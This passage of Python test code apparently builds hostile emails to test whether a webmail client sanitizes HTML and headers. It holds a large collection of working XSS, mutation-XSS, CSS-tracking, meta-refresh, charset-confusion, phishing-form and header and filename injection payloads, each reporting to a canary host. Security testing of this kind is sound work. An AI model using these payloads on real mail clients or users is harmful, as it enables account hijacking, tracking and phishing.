"""Mails that attack whoever reads them, each by a way of its own.

In their text `$URL` is an address of the canary that names the mail, `$NET` the same without a scheme, `$TLS` with
https, `$IP` by number, `$HOST` its bare name, `$JS` a script that shows that it ran, `$ENT` the same with every character
as a reference, and `$FRAME` a whole document that runs it, escaped for an attribute.
"""

from __future__ import annotations

import base64
import zlib
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime

import canary

#: The mail with number n was sent n minutes later: so mails are told apart whatever their headers say.
FIRST_SENT = datetime(2026, 3, 2, 1, 0, tzinfo=timezone.utc)

#: A combining mark: what compares whole characters does not find the quotation mark before it.
MARK = "\u0301"


@dataclass(frozen=True)
class Part:
    """An attachment, or another body."""

    content: str | bytes
    type: str = "text/html; charset=utf-8"
    #: Further header fields, each in one line, as they are sent.
    fields: tuple[str, ...] = ()


@dataclass(frozen=True)
class HostileMail:
    kind: str
    name: str
    html: str | bytes = "<p>Nothing to see here.</p>"
    charset: str = "utf-8"
    text: str | None = "The same as plain text."
    #: Header fields in place of the usual ones: name to value, as they are sent.
    header: tuple[tuple[str, str], ...] = ()
    parts: tuple[Part, ...] = ()
    #: How the HTML and the further parts stand together.
    multipart: str = "mixed"

    def sent(self, number: int) -> datetime:
        return FIRST_SENT + timedelta(minutes=number)

    def body(self, number: int, watcher: canary.Canary) -> bytes:
        """The HTML as it is in the mail."""
        return _filled(self.html, number, watcher)

    def message(self, number: int, sender: str, recipient: str, watcher: canary.Canary) -> bytes:
        """The whole mail."""
        fields = {
            "From": f"Customer <{sender}>",
            "To": f"User <{recipient}>",
            "Subject": f"Hostile mail {number}",
            "Date": format_datetime(self.sent(number)),
            "Message-ID": f"<hostile-{number}@customer.example>",
            "MIME-Version": "1.0",
        }
        for name, value in self.header:
            name, value = (_filled(text, number, watcher).decode().replace("$SENDER", sender) for text in (name, value))
            fields[name] = value
        html = _part(f"text/html; charset={self.charset}", self.body(number, watcher))
        body = html
        if self.text is not None:
            plain = _part("text/plain; charset=utf-8", _filled(self.text, number, watcher))
            body = _together("alternative", [plain, html])
        if self.parts:
            others = [
                _part(part.type, _filled(part.content, number, watcher), *[
                    _filled(line, number, watcher).decode() for line in part.fields
                ])
                for part in self.parts
            ]
            body = _together(self.multipart, [body, *others])
        return "".join(f"{name}: {value}\r\n" for name, value in fields.items()).encode() + body


def _filled(text: str | bytes, number: int, watcher: canary.Canary) -> bytes:
    """With the canary's addresses in place of their names."""
    url = watcher.url(number)
    code = canary.script(number, url)
    values = {
        "$URL": url,
        "$NET": url.removeprefix("http:"),
        "$TLS": url.replace("http:", "https:"),
        "$IP": watcher.address(number),
        "$HOST": f"mail-{number}.{canary.HOST}",
        "$JS": code,
        "$ENT": "".join(f"&#{ord(character)};" for character in code),
        "$FRAME": f"&lt;script&gt;{code}&lt;/script&gt;",
    }
    filled = text.encode() if isinstance(text, str) else text
    for name, value in values.items():
        filled = filled.replace(name.encode(), value.encode())
    return filled


def _part(content_type: str, content: bytes, *fields: str) -> bytes:
    head = "".join(f"{line}\r\n" for line in (f"Content-Type: {content_type}", *fields))
    return head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(content).replace(b"\n", b"\r\n")


def _together(kind: str, parts: list[bytes]) -> bytes:
    boundary = f"=_{kind.split(';')[0]}_{zlib.crc32(parts[0])}".encode()
    lines = [b"Content-Type: multipart/", kind.encode(), b'; boundary="', boundary, b'"\r\n\r\n']
    for part in parts:
        lines += [b"--", boundary, b"\r\n", part, b"\r\n"]
    return b"".join([*lines, b"--", boundary, b"--\r\n"])


def _encoded(text: str) -> str:
    """A header's value in one encoded word (RFC 2047), however long."""
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?="


def _kind(kind: str, **mails: str) -> list[HostileMail]:
    return [HostileMail(kind, name.replace("_", " "), html) for name, html in mails.items()]


_SCRIPTS = _kind(
    "script",
    plain="<script>$JS</script><script src=$URL/a.js></script>",
    odd_case_and_slashes="<ScRiPt/x='1'/src=$URL/a.js></sCrIpT\t><SCRIPT/>$JS</SCRIPT >",
    doubled_bracket="<<script>$JS//<</script><scr<script>ipt>$JS</scr</script>ipt>",
    never_closed="<script src=$URL/a.js ",
    modules='<script type=importmap>{"imports":{"a":"$URL/a.js"}}</script><script type=module>import "a";$JS</script>'
    '<link rel=modulepreload href=$URL/b.js>',
    speculation_rules='<script type=speculationrules>{"prefetch":[{"source":"list","urls":["$URL/p"],"eagerness":"immediate"}],'
    '"prerender":[{"source":"list","urls":["$URL/r"],"eagerness":"immediate"}]}</script>',
    after_the_end="<html><body>x</body></html><script>$JS</script></html><img src=$URL/end.gif onerror=$JS>",
    control_characters_in_the_name="<scr\0ipt>$JS</scr\0ipt><script\x0c>$JS</script><script\x0b>$JS</script>"
    "<\0script>$JS</script><script\0src=$URL/a.js></script>",
    in_vector_graphics="<svg><script href=$URL/a.js /><script xlink:href=$URL/b.js></script><script>$JS</script></svg>"
    "<svg><script>&#99;onsole.log(1),$ENT</script></svg>",
    comments_that_are_none="<!--><script>$JS</script>--><!-- --!><script>$JS</script><!---><script>$JS</script><!-x><script>$JS</script>",
    conditional_comments="<!--[if true]><script>$JS</script><img src=$URL/a.gif><![endif]-->"
    "<![if !x]><img src=$URL/b.gif onload=$JS><![endif]>",
    declarative_shadow="<div><template shadowrootmode=open><style>@import '$URL/s.css';</style><script>$JS</script>"
    "<img src=$URL/i.gif onerror=$JS><iframe src=$URL/f></iframe></template></div>",
)

_HANDLERS = _kind(
    "event handler",
    image_error="<img src=x onerror=$JS><img/src='x'/onerror=$JS><img\x0csrc=x\x0conerror=$JS><img src='x'onerror='$JS'>",
    odd_quotes="<img src=`x`onerror=$JS><img src=\"x\" \"\"\" onerror=$JS><img a='b\"' src=x o\x00nerror=$JS onerror=$JS>",
    load="<body onload=$JS onpageshow=$JS><svg onload=$JS><svg/onload=$JS><style onload=$JS>p{}</style>",
    toggle="<details open ontoggle=$JS><summary>x</summary>y</details>",
    media_errors="<video src=x onerror=$JS></video><audio src=x onerror=$JS></audio><video><source onerror=$JS src=x></video>",
    focus="<input autofocus onfocus=$JS><select autofocus onfocus=$JS></select><a href=# id=f tabindex=1 autofocus onfocus=$JS>x</a>",
    marquee="<marquee onstart=$JS loop=1 width=0 onfinish=$JS>x</marquee>",
    animations="<style>@keyframes k{from{left:0}to{left:1px}}p{animation:k .01s;position:relative}</style>"
    "<p onanimationstart=$JS onanimationend=$JS onwebkitanimationstart=$JS>x</p>",
    timed_graphics="<svg><animate onbegin=$JS attributeName=x dur=1s /><set onbegin=$JS attributeName=y to=1 /></svg>",
    popover="<button popovertarget=p autofocus onfocus=$JS accesskey=x onclick=$JS>x</button>"
    "<div popover id=p onbeforetoggle=$JS>y</div><dialog open onclose=$JS oncancel=$JS>z</dialog>",
    visibility="<p style='content-visibility:auto' oncontentvisibilityautostatechange=$JS>x</p><body onscroll=$JS onresize=$JS>",
    embedded="<object data=x onerror=$JS onload=$JS></object><iframe onload=$JS></iframe><embed src=x onload=$JS>"
    "<link rel=stylesheet href=x onerror=$JS>",
)

_LINKS = _kind(
    "link",
    of_script="<a href=javascript:$JS>a</a><a href='java\tscr\nipt:$JS'>b</a><a href='\x01 javascript:$JS'>c</a>"
    "<a href='&#106;avascript&colon;$ENT'>d</a><map name=m><area href=javascript:$JS></map>",
    of_data="<a href='data:text/html,<script>$JS</script>'>a</a><a href='vbscript:$JS'>b</a><a href='jar:$URL/a!/b'>c</a>"
    "<a href='blob:$URL/b'>d</a>",
    pings="<a ping='$URL/ping $NET/ping' href=$URL/a attributionsrc=$URL/src>a</a><img attributionsrc=$URL/isrc src=$URL/i>"
    "<script attributionsrc=$URL/ssrc></script>",
    opener="<a href=$URL/a target=_top rel=opener id=x autofocus accesskey=a>a</a><a href=$URL/b target=_parent>b</a>"
    "<base target=_top><form target=_top action=$URL/c><input autofocus></form>",
    schemes_of_programs="<a href='view-source:$URL/a'>a</a><a href='intent://$HOST#Intent;end'>b</a><a href='ms-word:ofe|u|$URL/w'>c</a>"
    "<a href='tel:+1'>d</a><a href='mailto:x@canary.invalid?attach=/etc/passwd'>e</a><iframe src=tel:+1></iframe>",
    files="<a href=file:///etc/passwd>a</a><img src=file:///etc/hostname><img src='file://$HOST/share/a.gif'>"
    "<img src='\\\\$HOST\\share\\a.gif'><iframe src='smb://$HOST/a'></iframe><link rel=stylesheet href='\\\\$HOST\\a.css'>",
    in_graphics="<svg><a xlink:href=javascript:$JS><text y=20>x</text></a><a><animate attributeName=href values=javascript:$JS begin=0s />"
    "<text y=40>y</text></a></svg><math href=javascript:$JS><mi xlink:href=$URL/m>z</mi></math>",
    names_to_look_up="<a href=//a.$HOST/>a</a><a href=https://b.$HOST/>b</a><link rel=dns-prefetch href=//c.$HOST>"
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=http://d.$HOST>d</a>",
)

_GRAPHICS = _kind(
    "vector graphics",
    images="<svg><image href=$URL/a.gif /><image xlink:href=$NET/b.gif /><feImage href=$URL/c.gif /><use href='$URL/u.svg#x' /></svg>"
    "<image src=$URL/d.gif>",
    references="<svg><defs><filter id=f><feImage xlink:href=$URL/f.svg /></filter></defs><rect width=9 height=9 mask='url($URL/m.svg#m)'"
    " fill='url($URL/p.svg#p)' clip-path='url($URL/c.svg#c)' filter='url(#f)' cursor='url($URL/c.cur),auto' /></svg>",
    animated="<svg><image><set attributeName=href to=$URL/s.gif begin=0s /></image>"
    "<image width=9 height=9><animate attributeName=xlink:href values='$URL/v.gif;$URL/w.gif' dur=.1s begin=0s /></image></svg>",
    foreign_objects="<svg><foreignObject width=99 height=99><iframe src=$URL/f></iframe><img src=$URL/i.gif><body onload=$JS>"
    "<meta http-equiv=refresh content='0;url=$URL/r'></foreignObject></svg>",
    styles="<svg><style>@import '$URL/i.css';*{background:url($URL/b.gif)}</style><?xml-stylesheet href='$URL/x.css'?></svg>",
    used_inline="<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='$URL/u.gif'/>"
    "<script>$JS</script></svg>#x\"/></svg>",
    mathematics="<math><annotation-xml encoding=text/html><script>$JS</script><img src=$URL/a.gif onerror=$JS></annotation-xml>"
    "<maction actiontype='statusline#$URL' xlink:href=javascript:$JS><mtext><iframe src=$URL/f></iframe></mtext></maction></math>",
)

_MUTATIONS = _kind(
    "mutation",
    namespaces="<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=$URL/a.gif onerror=$JS&gt;'>"
    "<svg></p><style><a id='</style><img src=$URL/b.gif onerror=$JS>'>",
    forms="<form id=a><div></form><form id=b><input name=parentNode></form></div><math></form><form><mglyph><svg><style><img src=$URL/a.gif>",
    raw_text="<noscript><p title='</noscript><img src=$URL/a.gif onerror=$JS>'></noscript>"
    "<noembed><p title='</noembed><img src=$URL/b.gif onerror=$JS>'></noembed>"
    "<noframes><p title='</noframes><img src=$URL/c.gif onerror=$JS>'></noframes>",
    text_areas="<textarea><p title='</textarea><img src=$URL/a.gif onerror=$JS>'></textarea>"
    "<title><p title='</title><img src=$URL/b.gif onerror=$JS>'></title><xmp><p title='</xmp><img src=$URL/c.gif onerror=$JS>'></xmp>",
    plain_text="<img src=$URL/a.gif onerror=$JS><plaintext><script>$JS</script>",
    templates="<template><img src=$URL/a.gif></template><select><template><img src=$URL/b.gif onerror=$JS></select>"
    "<select><style></select><img src=$URL/c.gif onerror=$JS></style>",
    names_in_attributes="<p title='<a \" onmouseover=$JS x'>x</p><p title=\"<a><img src=$URL/a.gif onerror=$JS>\">y</p>"
    "<p class=\"<area ><meta http-equiv=refresh content='0;url=$URL/r'>\">z</p>",
    tags_cut_in_two="<me<meta>ta http-equiv=refresh content='0;url=$URL/a'><meta<a http-equiv=refresh content='0;url=$URL/b'>"
    "<a<meta http-equiv=refresh content='0;url=$URL/c'></meta<meta http-equiv=refresh content='0;url=$URL/d'>"
    "<meta\0 http-equiv=refresh content='0;url=$URL/e'><cid:meta http-equiv=refresh content='0;url=$URL/f'>",
)

_STYLES = _kind(
    "style",
    imports="<style>@import '$URL/a.css';@import url($URL/b.css) layer(x) screen;@\\69mport \"$NET/c.css\";</style>"
    "<style>@charset 'utf-8';@import/**/url( '$URL/d.css' );@namespace url($URL/n);</style>",
    backgrounds="<p style='background:url($URL/a.gif)'>a<p style='background:u\\72l($URL/b.gif)'>b<p style=\"background:url('$NET/c.gif')\">c"
    "<p style='background:url(/**/$URL/d.gif)'>d<p style='background-image:image-set(\"$URL/e.gif\" 1x,url($URL/f.gif) 2x)'>e",
    webkit="<p style='background:-webkit-image-set(url($URL/a.gif) 1x)'>a<p style='background:-webkit-cross-fade(url($URL/b.gif),url($URL/c.gif),50%)'>b"
    "<p style='-webkit-mask:url($URL/d.gif);-webkit-box-reflect:below 0 url($URL/e.gif)'>c"
    "<p style='background:cross-fade(url($URL/f.gif) 50%,red)'>d",
    fonts="<style>@font-face{font-family:f;src:url($URL/f.woff2),url($NET/g.woff)}@font-face{font-family:g;src:local(x),url($URL/h.woff);"
    "unicode-range:U+78}p{font-family:f,g}</style><p>x</p>",
    pointers_and_lists="<body style='cursor:url($URL/c.cur),auto'><ul style='list-style:url($URL/l.gif)'><li>x</ul>"
    "<ul style='list-style-image:image-set(\"$URL/m.gif\" 1x)'><li>y</ul>",
    borders_and_masks="<p style='border:9px solid;border-image:url($URL/b.gif) 30 round'>a<p style='mask-image:url($URL/m.gif);clip-path:url($URL/c.svg#c)'>b"
    "<p style='float:left;shape-outside:url($URL/s.gif);offset-path:url($URL/o.svg#o)'>c<p style='filter:url($URL/f.svg#f);backdrop-filter:url($URL/g.svg#f)'>d",
    content="<style>p::before{content:url($URL/a.gif)}p::after{content:url($URL/b.gif)/'x'}p::marker{content:url($URL/c.gif)}"
    "p::first-letter{background:url($URL/d.gif)}</style><p style='display:list-item;content:url($URL/e.gif)'>x",
    variables="<style>:root{--u:url($URL/a.gif);--s:\"$URL/b.gif\"}@property --p{syntax:'<url>';inherits:false;initial-value:url($URL/c.gif)}"
    "p{background:var(--u)}b{background:image-set(var(--s) 1x)}i{background:var(--p)}s{background:src(var(--s))}</style><p>x<b>y<i>z<s>!",
    spying="<style>input[value^='a']{background:url($URL/a)}html:has(input){background:url($URL/h)}a:visited{background:url($URL/v)}"
    "@media(min-width:1px){p{background:url($URL/m)}}@supports(a:b)or(color:red){p{border-image:url($URL/s)}}</style><input value=abc><p>x",
    sheets_by_other_ways="<link rel='stylesheet' href=$URL/a.css><LINK REL=\"alternate stylesheet\" TITLE=x HREF=$URL/b.css>"
    "<x-link rel=stylesheet href=$URL/c.css></x-link><style src=$URL/d.css></style><?xml-stylesheet href='$URL/e.css'?>",
    old_browsers="<p style='behavior:url($URL/a.htc);-moz-binding:url($URL/b.xml#x)'>a<p style='width:expression($JS)'>b"
    "<xml src=$URL/c></xml><?import namespace=x implementation=$URL/d><v:image xmlns:v=urn:schemas-microsoft-com:vml src=$URL/e>",
    over_everything="<style>@view-transition{navigation:auto}*{position:fixed!important;inset:0!important;z-index:2147483647!important;"
    "background:url($URL/a.gif)!important}</style><dialog open style='width:200vw;height:200vh'>Sign in<form action=$URL/f><input type=password></form></dialog>",
)

_META = _kind(
    "meta",
    refresh="<meta http-equiv=refresh content='0;url=$URL/a'><META/HTTP-EQUIV='REFRESH'/CONTENT=0;URL=$URL/b>",
    refresh_in_odd_places="<p>x</p><svg><meta http-equiv=refresh content='0;url=$NET/a'></svg><table><meta\thttp-equiv=refresh\tcontent='0,$URL/b'></table>"
    "<template><meta http-equiv=refresh content='0;$URL/c'></template><noscript><meta http-equiv=refresh content='0;url=$URL/d'></noscript>",
    refresh_to_a_script="<meta http-equiv=refresh content='0;url=javascript:$JS'><meta http-equiv=refresh content='0;url=data:text/html,<script>$JS</script>'>",
    policies="<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline';report-uri $URL/report\">"
    "<meta http-equiv=Content-Security-Policy-Report-Only content=\"script-src 'none';report-uri $URL/only\"><script>$JS</script><img src=$URL/a.gif>",
    cookies="<meta http-equiv=Set-Cookie content='session=canary;path=/'><meta http-equiv=Link content='<$URL/a.css>;rel=stylesheet'>"
    "<meta http-equiv=Refresh content='0;url=$URL/c'>",
    referrer="<meta name=referrer content=unsafe-url><img src=$URL/a.gif referrerpolicy=unsafe-url><meta name=msapplication-TileImage content=$URL/t>"
    "<meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content='sec-ch-ua $URL'>",
    base="<base href=$URL/><img src=a.gif><link rel=icon href=b.gif><script src=c.js></script><a href=d>x</a>",
    base_of_a_frame="<base href=$URL/ target=_top><base href='javascript:$JS//'><img src=e.gif><iframe src=f></iframe>",
)

_RELATIONS = _kind(
    "relation",
    ahead_of_time="<link rel=prefetch href=$URL/a><link rel=prerender href=$URL/b><link rel=preconnect href=$URL><link rel=preconnect href=$TLS crossorigin>"
    "<link rel=dns-prefetch href=$NET>",
    preloads="<link rel=preload as=image href=$URL/a.gif imagesrcset='$URL/b.gif 1x'><link rel=preload as=script href=$URL/c.js>"
    "<link rel=preload as=fetch href=$URL/d crossorigin><link rel=preload as=font href=$URL/e.woff crossorigin><link rel=preload as=style href=$URL/f.css>",
    icons="<link rel=icon href=$URL/a.gif><link rel='shortcut icon' href=$URL/b.ico><link rel=apple-touch-icon href=$URL/c.png>"
    "<link rel=mask-icon href=$URL/d.svg>",
    manifests="<html manifest=$URL/m.appcache><link rel=manifest href=$URL/a.json><link rel=search type=application/opensearchdescription+xml href=$URL/b>"
    "<link rel=import href=$URL/c.html><link rel=expect href=#x blocking=render><link rel=compression-dictionary href=$URL/d>",
    odd_spelling="<link/rel='stylesheet'/href=$URL/a.css><LiNk\nrel=prefetch\nhref=$URL/b><svg:link rel=stylesheet href=$URL/c.css><link rel='x prefetch' href=$URL/d>",
)

_FRAMES = _kind(
    "frame",
    sources="<iframe src=$URL/a></iframe><iframe src=$NET/b loading=eager></iframe><iframe/src=$IP/c></iframe>",
    documents="<iframe srcdoc='$FRAME'></iframe><iframe srcdoc=\"&lt;img src=$URL/a.gif onerror=$JS&gt;\" sandbox='allow-scripts allow-same-origin'></iframe>",
    scripts="<iframe src=javascript:$JS></iframe><iframe src='data:text/html,<script>$JS</script>'></iframe><iframe src='javascript:&quot;<img src=$URL/a.gif>&quot;'></iframe>",
    objects="<object data=$URL/a type=text/html></object><object data='data:text/html,<script>$JS</script>'></object><object data=$URL/b.svg></object>"
    "<object classid=$URL/c codebase=$URL/d><param name=movie value=$URL/e></object>",
    embedded="<embed src=$URL/a.svg><embed src=$URL/b type=text/html><embed code=$URL/c><applet code=x codebase=$URL/d archive=$URL/e></applet>",
    future="<portal src=$URL/a></portal><fencedframe src=$URL/b></fencedframe><webview src=$URL/c></webview><controlledframe src=$URL/d></controlledframe>",
    framesets="<frameset rows=*><frame src=$URL/a><frame src=javascript:$JS></frameset>",
    nested="<iframe srcdoc='&lt;iframe srcdoc=&quot;&amp;lt;iframe src=$URL/a&amp;gt;&quot;&gt;'></iframe><iframe src=about:blank name=n></iframe>"
    "<a href=$URL/b target=n id=x>x</a><iframe src=/ sandbox=allow-same-origin></iframe>",
)

_FORMS = _kind(
    "form",
    sent="<form action=$URL/a method=post><input name=a value=b autofocus><button>Go</button></form><form action=javascript:$JS><input type=submit></form>",
    buttons="<form id=f></form><button form=f formaction=$URL/a>a</button><input type=submit form=f formaction=javascript:$JS><isindex action=$URL/b type=image src=$URL/c>",
    images="<input type=image src=$URL/a.gif formaction=$URL/b><form action=$URL/c><input type=image src=$NET/d.gif></form>",
    passwords="<form action=$URL/a><input type=text name=email autocomplete=username><input type=password name=password autocomplete=current-password autofocus>"
    "<keygen name=k></form>",
)

_IMAGES = _kind(
    "image",
    sources="<img src=$URL/a.gif width=1 height=1><img src=$NET/b.gif><img src=$TLS/c.gif><img src=$IP/d.gif><img src='http:\\\\canary.invalid\\e.gif'>"
    "<img src='//canary.invalid\\f.gif'><img src='ht\ntp://canary.invalid/g.gif'>",
    sets="<img srcset='$URL/a.gif 1x,$URL/b.gif 2x' src=cid:a><picture><source srcset=$URL/c.webp><source media='(min-width:1px)' srcset=$NET/d.gif><img></picture>"
    "<img srcset=,,,,$URL/e.gif>",
    old_attributes="<img dynsrc=$URL/a lowsrc=$URL/b longdesc=$URL/c><body background=$URL/d.gif><table background=$URL/e.gif><tr background=$URL/f.gif>"
    "<td background=$URL/g.gif>x</table>",
    waiting="<img loading=lazy src=$URL/a.gif><img loading=eager fetchpriority=high decoding=sync src=$URL/b.gif crossorigin=use-credentials><img ismap usemap=#m src=$URL/c.gif>",
    of_data="<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$JS'><image href='$URL/a.gif'/></svg>\">"
    "<p style=\"background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22$URL/b.gif%22/></svg>')\">x",
    media="<video src=$URL/a.mp4 autoplay muted poster=$URL/b.gif></video><audio src=$URL/c.mp3 autoplay></audio><video autoplay muted preload=auto><source src=$URL/d.mp4>"
    "<track src=$URL/e.vtt default kind=captions></video><bgsound src=$URL/f.mid>",
    of_ourselves="<img src=/signout><img src=/settings/users><img src=/inline/x><img src=/inline/..%2fsettings><iframe src=/mail></iframe><link rel=stylesheet href=/x.css>"
    "<form action=/settings/users method=post><input name=profile value=administrator></form><img src=$URL/a.gif>",
)

_PAGE = _kind(
    "page",
    clobbering="<form id=document><input name=cookie><input name=body></form><img name=getElementById><a id=config href=javascript:$JS></a>"
    "<iframe name=self srcdoc='$FRAME'></iframe><img id=top src=$URL/a.gif onerror=$JS>",
    close_of_what_is_around="</div></main></body></html>--></style></script></iframe></textarea></title>\"'><img src=$URL/a.gif onerror=$JS><base href=$URL/>",
    editable="<div contenteditable=plaintext-only autofocus onfocus=$JS onblur=$JS>x</div><input type=file autofocus><input type=color onchange=$JS>"
    "<button command=show-modal commandfor=d autofocus>x</button><dialog id=d><img src=$URL/a.gif></dialog>",
    ten_thousand_levels="<div>" * 10_000 + "<img src=$URL/a.gif onerror=$JS>",
    very_long_names=f"<{'a' * 60_000} onclick=$JS><p {'x' * 60_000}='{'y' * 60_000}' onclick=$JS><img src=$URL/a.gif {'z ' * 5_000} onerror=$JS>",
    thousands_of_links="<a href=//canary.invalid/a>x</a><meta http-equiv=refresh content='0;url=$URL/r'><svg><g>" * 2_000,
)


def _in_charset(name: str, charset: str, html: bytes) -> HostileMail:
    return HostileMail("charset", name, html, charset)


_CHARSETS = [
    _in_charset("UTF-7", "utf-7", b"+ADw-script+AD4-$JS+ADw-/script+AD4-+ADw-img src+AD0-$URL/a.gif onerror+AD0-$JS+AD4-"),
    _in_charset(
        "ISO-2022-JP with escapes in the names",
        "iso-2022-jp",
        b"<scr\x1b(Bipt>$JS</scr\x1b(Bipt><img \x1b$B\"><img src=$URL/a.gif onerror=$JS>\x1b(B src=$URL/b.gif onerror=$JS>"
        b"<me\x1b(Jta http-equiv=refresh content='0;url=$URL/r'>",
    ),
    _in_charset(
        "Shift JIS with a lead byte before the quote",
        "shift_jis",
        b"<img alt=\"\x81\" title=\" onerror=$JS src=$URL/a.gif x=\"><p title='\x81'><img src=$URL/b.gif onerror=$JS>",
    ),
    _in_charset("UTF-16", "utf-16", "<script>$JS</script><img src=$URL/a.gif onerror=$JS>".encode()),
    _in_charset(
        "overlong and broken UTF-8",
        "utf-8",
        b"\xc0\xbcscript\xc0\xbe$JS\xc0\xbc/script\xc0\xbe\xff\xfe<me\xc2ta http-equiv=refresh content='0;url=$URL/a'><img src=$URL/b.gif \xe3\x81>",
    ),
    _in_charset(
        "a charset that no one has",
        'x-user-defined"><script>alert(1)</script>',
        b"\xef\xbb\xbf<meta charset=utf-7>+ADw-script+AD4-$JS+ADw-/script+AD4-<img src=$URL/a.gif onerror=$JS>",
    ),
]

_IMAGE = 'Content-Disposition: inline; filename="a.svg"'
_VECTOR = '<svg xmlns="http://www.w3.org/2000/svg" onload="$JS"><script>$JS</script><image href="$URL/cid.gif"/></svg>'

_PARTS = [
    HostileMail(
        "attachment",
        "Content-ID of vector graphics and of HTML",
        "<img src=cid:vector><iframe src=cid:page></iframe><object data=cid:vector></object><img src=cid:page><style>@import 'cid:sheet';</style>",
        parts=(
            Part(_VECTOR, "image/svg+xml", ("Content-ID: <vector>", _IMAGE)),
            Part("<script>$JS</script>", "text/html", ("Content-ID: <page>",)),
            Part("*{background:url($URL/s.gif)}", "text/css", ("Content-ID: <sheet>",)),
        ),
        multipart="related",
    ),
    HostileMail(
        "attachment",
        "HTML that says that it is an image",
        "<img src=cid:a><iframe src=cid:a></iframe><a href=cid:a>x</a><embed src=cid:a><img src=cid:b><img src=cid:c>",
        parts=(
            Part("<script>$JS</script><img src=$URL/a.gif onerror=$JS>", "image/png", ("Content-ID: <a>",)),
            Part(_VECTOR, "image/svg+xml; x=image/png", ("Content-ID: <b>",)),
            Part("<script>$JS</script>", 'image/png"; text/html', ("Content-ID: <c>",)),
        ),
        multipart="related",
    ),
    HostileMail(
        "attachment",
        "Content-IDs with quotes and paths",
        "<img src='cid:x\" onerror=\"$JS'><img src=\"cid:' onerror='$JS\"><img src=cid:../../settings><img src=cid:%2e%2e%2fsettings>"
        "<p style='background:url(cid:p)'>x<img src=cid:$URL/a.gif><img src=\"cid:%22%3E%3Cimg%20src=$URL/b.gif%3E\">",
        parts=(
            Part(canary.PIXEL, "image/gif", ('Content-ID: <x" onerror="$JS>',)),
            Part(canary.PIXEL, "image/gif", ("Content-ID: <../../settings>",)),
            Part(canary.PIXEL, "image/gif", ('Content-ID: <"><img src=$URL/b.gif>>',)),
            Part(canary.PIXEL, "image/gif", ("Content-ID: <p>",)),
        ),
        multipart="related",
    ),
    HostileMail(
        "attachment",
        "names of pages and graphics",
        parts=(
            Part("<script>$JS</script>", 'text/html; name="page.html"', ('Content-Disposition: attachment; filename="page.html"',)),
            Part(_VECTOR, 'image/svg+xml; name="a.svg"', ('Content-Disposition: attachment; filename="a.svg"',)),
            Part("<script>$JS</script>", "application/xhtml+xml", ('Content-Disposition: attachment; filename="../../../etc/passwd"',)),
        ),
    ),
    HostileMail(
        "attachment",
        "names with HTML and quotes",
        parts=(
            Part("x", "text/plain", ('Content-Disposition: attachment; filename="<img src=$URL/a.gif onerror=$JS>.txt"',)),
            Part("x", "text/plain", (f'Content-Disposition: attachment; filename="{_encoded(chr(34) + MARK + " autofocus onfocus=$JS x=" + chr(34) + MARK)}"',)),
            Part("x", "text/plain", ("Content-Disposition: attachment; filename*=utf-8''%22%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a<script>$JS</script>",)),
            Part("x", "text/plain", ("Content-Disposition: attachment; filename*=utf-8''%E2%80%AEgpj.exe%E2%80%AC%E2%81%A6",)),
        ),
    ),
    HostileMail(
        "structure",
        "related with a start of its own",
        "<p>first</p><img src=$URL/a.gif>",
        parts=(Part("<script>$JS</script><img src=$URL/b.gif onerror=$JS>", fields=("Content-ID: <start>",)),),
        multipart='related; start="<start>"; type="text/html"',
    ),
    HostileMail(
        "structure",
        "two HTML bodies that share a tag",
        "<p>x</p><meta http-equiv=refresh content='0;url=$URL/a' x='",
        parts=(Part("'><script>$JS</script><img src=$URL/b.gif onerror=$JS>"), Part("<meta http-equiv=refresh content='0;url=$URL/c'>")),
    ),
    HostileMail(
        "structure",
        "a mail within the mail",
        text=None,
        html="<p>outer</p><img src=$URL/o.gif>",
        parts=(Part("Subject: <script>$JS</script>\r\nContent-Type: text/html\r\n\r\n<script>$JS</script><img src=$URL/i.gif>", "message/rfc822"),),
    ),
    HostileMail(
        "structure",
        "a location to load from",
        "<img src=a.gif><img src=b.gif><link rel=stylesheet href=c.css>",
        parts=(
            Part("x", "image/gif", ("Content-Location: $URL/a.gif", "Content-Base: $URL/")),
            Part("", 'message/external-body; access-type=URL; URL="$URL/ext"'),
        ),
        multipart="related",
    ),
    HostileMail("structure", "HTML alone, sent as an attachment", "<script>$JS</script><img src=$URL/a.gif onerror=$JS>", text=None),
]

_TAG = "<img src=$URL/header.gif onerror=$JS><script>$JS</script>"
_QUOTE = f'"{MARK} autofocus tabindex=1 onfocus=$JS x="{MARK}'

_HEADERS = [
    HostileMail("header", "HTML in the subject", header=(("Subject", _TAG),)),
    HostileMail("header", "HTML in an encoded subject", header=(("Subject", "=?utf-8?Q?=3Cimg_src=3D$URL/q.gif_onerror=3D$JS=3E?="),)),
    HostileMail("header", "quotes with combining marks", header=(("Subject", f"x{_QUOTE}'{MARK} onclick='{MARK}$JS"), ("From", f"=?utf-8?Q?=22=CC=81_onclick=3D$JS_x=3D=22=CC=81?= <$SENDER>"))),
    HostileMail("header", "HTML in the sender's name", header=(("From", f'"</dd></dl>{_TAG}" <$SENDER>'), ("Reply-To", f'"{_TAG}" <x@customer.example>'))),
    HostileMail("header", "HTML in a recipient's address", header=(("Cc", '"<svg/onload=$JS>"@customer.example, <img/src="$URL/cc.gif"/onerror=$JS>@customer.example'),)),
    HostileMail("header", "HTML in the Message-ID and date", header=(("Message-ID", "<\"><script>$JS</script>@customer.example>"), ("In-Reply-To", f"<{_TAG}>"))),
    HostileMail("header", "HTML in what the server said", header=(("Authentication-Results", f'{_TAG}; spf=pass"{_TAG}; dkim={_TAG}; dmarc=pass (</span>{_TAG})'),)),
    HostileMail("header", "HTML in names of fields", header=(("X-<script>self.__pwned=1</script>", "x"), ("<img/src='$NET/field.gif'/onerror=self.__pwned=1>", "x"), ("X-Long", "<b>" * 5_000))),
    HostileMail("header", "text that turns around", header=(("Subject", "\u202e\u2066gpj.exe\u2069\u202c<!--"), ("From", "=?utf-8?Q?=E2=80=AE=3C=2Fdt=3E?= <$SENDER>"))),
